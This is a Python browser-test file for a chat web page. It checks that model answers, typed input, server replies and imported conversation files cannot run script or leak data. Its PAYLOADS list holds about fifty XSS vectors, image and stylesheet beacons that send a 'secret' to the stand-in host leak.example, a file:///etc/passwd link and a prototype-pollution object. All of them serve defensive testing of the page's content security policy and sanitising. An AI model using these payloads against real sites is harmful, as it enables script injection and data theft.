"""What a model, a file or a server may send: none of it runs, none of it makes the page ask anybody for anything."""

from __future__ import annotations

import json
from collections.abc import Callable

from gemcut.server.page import POLICY, page_files
from gemcut.server.policy import PROHIBITED_USE

from .conftest import Open, Tab
from .scripted import Script

#: A payload that runs sets this; `leak.example` is whom a payload would tell something.
MARK = "window.ran=1"
PAYLOADS = [
    f"<script>{MARK}</script>",
    f'<img src=x onerror="{MARK}">',
    f"<svg onload={MARK}></svg>",
    f"<svg><script>{MARK}</script></svg>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<iframe src="javascript:{MARK}"></iframe>',
    f'<body onload="{MARK}">',
    f'<details open ontoggle="{MARK}">x</details>',
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'></noscript>",
    f'<a href="javascript:{MARK}">click</a>',
    f"[click](javascript:{MARK})",
    f"[click](JaVaScRiPt:{MARK})",
    f"[click](java\tscript:{MARK})",
    f"[click](java&#115;cript:{MARK})",
    f"[click](&#x6A;avascript:{MARK})",
    f"[click](<javascript:{MARK}>)",
    f"[click](\x01javascript:{MARK})",
    f"[click](vbscript:{MARK})",
    f"[click](data:text/html,<script>{MARK}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    f"[click](blob:https://leak.example/{MARK})",
    "[click](file:///etc/passwd)",
    f"<javascript:{MARK}>",
    f'<https://x.org/"onmouseover="{MARK}>',
    f'[click](https://x.org/ "\\" onmouseover=\\"{MARK}")',
    f"[click](https://x.org/'onclick='{MARK})",
    f"![x](javascript:{MARK})",
    f'![" onerror="{MARK}](https://leak.example/a.png)',
    "![secret](https://leak.example/leak?q=secret)",
    "![secret](//leak.example/leak.png)",
    "[![secret](https://leak.example/leak.png)](https://leak.example)",
    "<img src=https://leak.example/leak.png>",
    '<link rel=stylesheet href="https://leak.example/a.css"><style>@import "https://leak.example/b.css";</style>',
    '<meta http-equiv="refresh" content="0;url=https://leak.example/">',
    '<base href="https://leak.example/">',
    '<form action="https://leak.example/"><input name=a><button>Send</button></form>',
    f'<object data="https://leak.example/a.swf"></object><embed src="javascript:{MARK}">',
    f'```"><img src=x onerror={MARK}>\n<script>{MARK}</script>\n```',
    f"```html\n<img src=x onerror={MARK}>\n```",
    f"`<img src=x onerror={MARK}>`",
    f"| <img src=x onerror={MARK}> | [a](javascript:{MARK}) |\n|---|---|\n| <script>{MARK}</script> | b |",
    f"# <img src=x onerror={MARK}>\n\n- <svg onload={MARK}>\n\n> <script>{MARK}</script>",
    f"&lt;img src=x onerror={MARK}&gt; &#60;script&#62;{MARK}&#60;/script&#62;",
    f"\x00<scr\x00ipt>{MARK}</script>\u2028<img src=x onerror={MARK}>",
    "[evil\u202egro.elpmaxe](https://leak.example/\u202egro)",
    f"<<script>script>{MARK}<</script>/script>",
    f"{{{{constructor.constructor('{MARK}')()}}}} ${{{MARK}}} <%= {MARK} %>",
]
#: What the page itself makes of a model's text; nothing else may be in an answer.
ALLOWED = {
    *("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "blockquote", "hr"),
    *("br", "em", "strong", "s", "code", "pre", "a", "span", "div", "button", "svg", "use"),
}


def _assert_harmless(tab: Tab) -> None:
    """Nothing ran, and an answer has only elements and addresses that the page may make."""
    assert tab.page.evaluate("window.ran === undefined")
    names, hrefs, handlers = tab.page.evaluate(
        """() => {
          const all = [...document.querySelectorAll("#log .body *")];
          return [
            [...new Set(all.map((one) => one.localName))],
            [...document.querySelectorAll("#log .body a")].map((one) => one.getAttribute("href")),
            all.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith("on") || name === "style"),
          ];
        }"""
    )
    assert set(names) <= ALLOWED
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs), hrefs
    assert handlers == []


def test_a_models_text_stays_text(open_page: Open) -> None:
    """Payloads as answers of the model; the checks of `Tab.check` (policy, other addresses) come on top."""
    assert len(PAYLOADS) >= 25
    tab = open_page()
    for first in range(0, len(PAYLOADS), 10):
        text = "\n\n".join(PAYLOADS[first : first + 10])
        tab.script.say = lambda body, text=text: [text[i : i + 9] for i in range(0, len(text), 9)]
        tab.ask("x")
        _assert_harmless(tab)
    assert PAYLOADS[0] in tab.page.locator(".message.assistant .body").first.inner_text()


def test_each_payload_alone_stays_text(open_page: Open) -> None:
    """In the page's own log, by the page's own renderer, whole and piece by piece: none can hide in another's text."""
    tab = open_page()
    tab.ask("x")
    texts = tab.page.evaluate(
        """async (payloads) => {
          const { MarkdownView } = await import("/page/render.js");
          const texts = [];
          for (const payload of payloads) {
            const place = document.createElement("div");
            place.className = "body";
            document.getElementById("log").append(place);
            const view = new MarkdownView(place);
            for (let end = 1; end < payload.length; end += 5) view.update(payload.slice(0, end), false);
            view.update(payload, true);
            await new Promise((done) => setTimeout(done, 5)); // a handler would run now
            texts.push(place.textContent);
          }
          return texts;
        }""",
        PAYLOADS,
    )
    assert all(texts)
    _assert_harmless(tab)


def test_what_a_link_shows_can_be_clicked_without_harm(open_page: Open) -> None:
    links = [payload for payload in PAYLOADS if "](" in payload or payload.startswith("<")]
    tab = open_page(Script(say=lambda body: ["\n\n".join(links)]))
    tab.page.context.route("https://**", lambda route: route.abort())
    tab.ask("x")
    tab.page.evaluate(
        """() => document.querySelectorAll("#log .body a").forEach((link) => {
          for (const name of ["mouseover", "focus"]) link.dispatchEvent(new Event(name, { bubbles: true }));
        })"""
    )
    options = tab.page.evaluate('[...document.querySelectorAll("#log .body a")].map((a) => [a.rel, a.target])')
    assert options
    assert all(one == ["noopener noreferrer nofollow", "_blank"] for one in options)
    _assert_harmless(tab)
    tab.page.context.unroute("https://**")


def test_what_a_person_types_stays_text(open_page: Open) -> None:
    tab = open_page()
    for payload in PAYLOADS[:3]:
        tab.page.click("#new")
        tab.ask(payload)
    tab.page.reload()
    tab.page.locator("#model").wait_for()
    titles = [payload if len(payload) <= 60 else f"{payload[:59]}…" for payload in PAYLOADS[:3]]
    assert tab.titles() == titles[::-1]
    _assert_harmless(tab)


def test_what_a_server_says_stays_text(open_page: Open) -> None:
    script = Script(ready=(503, {"status": "loading", "stage": PAYLOADS[1]}))
    script.model = {**script.model, "id": PAYLOADS[0], "root": PAYLOADS[1], "capabilities": [PAYLOADS[0]]}
    tab = open_page(script, ready=False)
    tab.page.get_by_text(PAYLOADS[1]).wait_for()
    script.ready = (200, {"status": "ready"})
    tab.page.locator("#model").wait_for()
    script.failures = [(400, {"error": {"message": PAYLOADS[1], "code": PAYLOADS[0]}})]
    tab.ask("x")
    tab.page.locator(".toast.wrong").get_by_text(PAYLOADS[1]).wait_for()
    _assert_harmless(tab)


def _conversation(**changes: object) -> dict[str, object]:
    messages = [
        {"id": "1", "parent": None, "role": "user", "text": "Hi", "at": 1},
        {"id": "2", "parent": "1", "role": "assistant", "text": PAYLOADS[1], "at": 2, "model": PAYLOADS[0]},
    ]
    return {"id": "x", "title": PAYLOADS[0], "system": "", "leaf": "2", "messages": messages, **changes}


def _file(*conversations: object) -> str:
    return json.dumps({"format": "gemcut-conversations", "version": 1, "conversations": list(conversations)})


def _message(**changes: object) -> str:
    return _file(_conversation(messages=[{"id": "1", "parent": None, "role": "user", "text": "a", **changes}]))


BAD_FILES = {
    "not JSON": ("{", "is not JSON"),
    "another file": ('{"a": 1}', "holds no conversations"),
    "another version": ('{"format": "gemcut-conversations", "version": 2, "conversations": []}', "no conversations"),
    "no list": ('{"format": "gemcut-conversations", "version": 1, "conversations": {}}', "no list"),
    "a number": ("7", "holds no conversations"),
    "null": (_file(None), "Conversation 1 is not an object"),
    "no title": (_file(_conversation(title=5)), "title must be a text"),
    "long title": (_file(_conversation(title="a" * 501)), "at most 500"),
    "no messages": (_file(_conversation(messages="x")), "messages must be a list"),
    "many messages": (_file(_conversation(messages=[None] * 20_001)), "at most 20000"),
    "a role": (_message(role="system"), "role must be user or assistant"),
    "a role that is a name": (_message(role="__proto__"), "role must be user or assistant"),
    "a parent": (_message(parent="7"), "does not stand before"),
    "itself as parent": (_message(parent="1"), "does not stand before"),
    "an object as parent": (_message(parent={}), "bad parent"),
    "an object as text": (_message(text={"toString": "x"}), "text must be a text"),
    "ids twice": (_file(_conversation(messages=[{"id": "1", "parent": None, "role": "user", "text": "a"}] * 2)), "id"),
    "an answer first": (_message(role="assistant"), "begins with the user"),
    "roles": ('[{"role": "user", "content": "a"}, {"role": "user", "content": "b"}]', "role must be assistant"),
    "the second is wrong": (_file(_conversation(), _conversation(title=None)), "Conversation 2"),
}


def test_a_bad_file_is_refused_whole(open_page: Open, upload: Callable[[Tab, str], None]) -> None:
    tab = open_page()
    found = tab.page.evaluate(
        """async (texts) => {
          const { parseImport } = await import("/page/transfer.js");
          return texts.map((text) => {
            try {
              return `read ${parseImport(text).length}`;
            } catch (error) {
              return `${error.constructor.name}: ${error.message}`;
            }
          });
        }""",
        [text for text, _ in BAD_FILES.values()],
    )
    for (name, (_, said)), message in zip(BAD_FILES.items(), found, strict=True):
        assert message.startswith("Error: "), name  # ours, not a TypeError
        assert said in message, name
    upload(tab, BAD_FILES["the second is wrong"][0])
    tab.page.locator(".toast.wrong").get_by_text("Nothing was imported. Conversation 2").wait_for()
    assert tab.titles() == []


def test_a_hostile_file_is_only_text(open_page: Open, upload: Callable[[Tab, str], None]) -> None:
    tab = open_page()
    extra = {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "onload": MARK}
    upload(tab, _file({**_conversation(), **extra, "updated": 1e300, "created": "x"}))
    tab.page.locator(".message.assistant").wait_for()
    assert tab.page.evaluate("({}).polluted === undefined && window.ran === undefined")
    assert tab.titles() == [PAYLOADS[0]]
    kept = tab.page.evaluate(
        """async () => {
          const { Store } = await import("/page/store.js");
          const store = new Store();
          await store.open();
          return store.all();
        }"""
    )
    (conversation,) = kept
    assert set(conversation) == {"id", "title", "system", "created", "updated", "leaf", "messages"}
    assert conversation["id"] != "x"  # an id in a file could name a conversation that is here
    assert [message["parent"] for message in conversation["messages"]] == [None, conversation["messages"][0]["id"]]
    _assert_harmless(tab)


def test_the_policy_is_in_force(open_page: Open) -> None:
    """Each of these is what a hole in the page would be used for; the browser refuses them."""
    tab = open_page()
    refused = tab.page.evaluate(
        """async () => {
          const tries = {
            html: () => { document.body.innerHTML = "<b>x</b>"; },
            policy: () => trustedTypes.createPolicy("x", { createHTML: (text) => text }),
            script: () => { document.createElement("script").text = "window.ran = 1"; },
            fetch: () => fetch("https://leak.example/"),
            inline: () => new Promise((done, fail) => {
              const style = document.createElement("style");
              style.textContent = "body { display: none }";
              document.head.append(style);
              if (getComputedStyle(document.body).display === "none") done(); else fail(new Error("refused"));
            }),
          };
          const found = [];
          for (const [name, run] of Object.entries(tries)) {
            try { await run(); } catch { found.push(name); }
          }
          return found;
        }"""
    )
    assert refused == ["html", "policy", "script", "fetch", "inline"]
    assert tab.page.evaluate("window.violations.length") >= 5
    tab.page.evaluate("window.violations = []")  # they were asked for
    assert tab.requests == [url for url in tab.requests if url.startswith(tab.url)]


def test_every_file_comes_with_the_policy(open_page: Open) -> None:
    tab = open_page()
    for path in page_files():
        answer = tab.page.request.get(tab.url + path)
        assert answer.status == 200
        assert answer.headers["content-security-policy"] == POLICY
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
        again = tab.page.request.get(tab.url + path, headers={"If-None-Match": answer.headers["etag"]})
        assert again.status == 304
    for path in ("/page/", "/page/../app.py", "/page/index.html", "/page/%2e%2e/app.py", "/page/page.py"):
        assert tab.page.request.get(tab.url + path).status == 404


def test_no_file_names_another_address() -> None:
    """Not even in a comment, but for the link to the policy; and no way from a text to HTML or code."""
    for path, file in page_files().items():
        text = file.body.decode()
        for word in ("innerHTML", "outerHTML", "AdjacentHTML", "document.write", "eval(", "new Function", "style="):
            assert word not in text, (path, word)
        known = (
            "http://www.w3.org/2000/svg",
            "https://bank.example@evil.example/",
            "https?:\\/\\/",
            "https://$",
            PROHIBITED_USE,
        )
        for address in known:
            text = text.replace(address, "")
        assert "http://" not in text, path
        assert "https://" not in text, path
